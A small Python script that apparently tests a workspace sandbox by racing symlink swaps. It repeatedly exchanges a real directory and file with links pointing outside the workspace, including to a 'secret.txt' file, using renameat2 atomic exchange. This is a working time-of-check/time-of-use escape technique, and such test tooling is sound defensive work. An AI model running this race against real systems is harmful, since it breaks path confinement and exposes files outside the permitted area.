"""Swaps a directory and a file of a workspace for links that lead out, and back, as fast as possible."""

import os
import sys


def main() -> None:
    inside, outside = sys.argv[1:]
    os.chdir(inside)
    os.symlink(outside, "directory link")
    os.symlink(f"{outside}/secret.txt", "file link")
    print("racing", flush=True)
    while True:
        for name in ("directory", "file"):
            # Real, link, real again: each in one step, so that there is always something.
            _exchange(name, f"{name} link")


def _exchange(one: str, other: str) -> None:
    if not _libc_exchange(one, other):
        os.rename(one, "swap")
        os.rename(other, one)
        os.rename("swap", other)


def _libc_exchange(one: str, other: str) -> bool:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    call = getattr(libc, "renameat2", None)
    here = -100  # AT_FDCWD
    return call is not None and call(here, one.encode(), here, other.encode(), 2) == 0


if __name__ == "__main__":
    main()
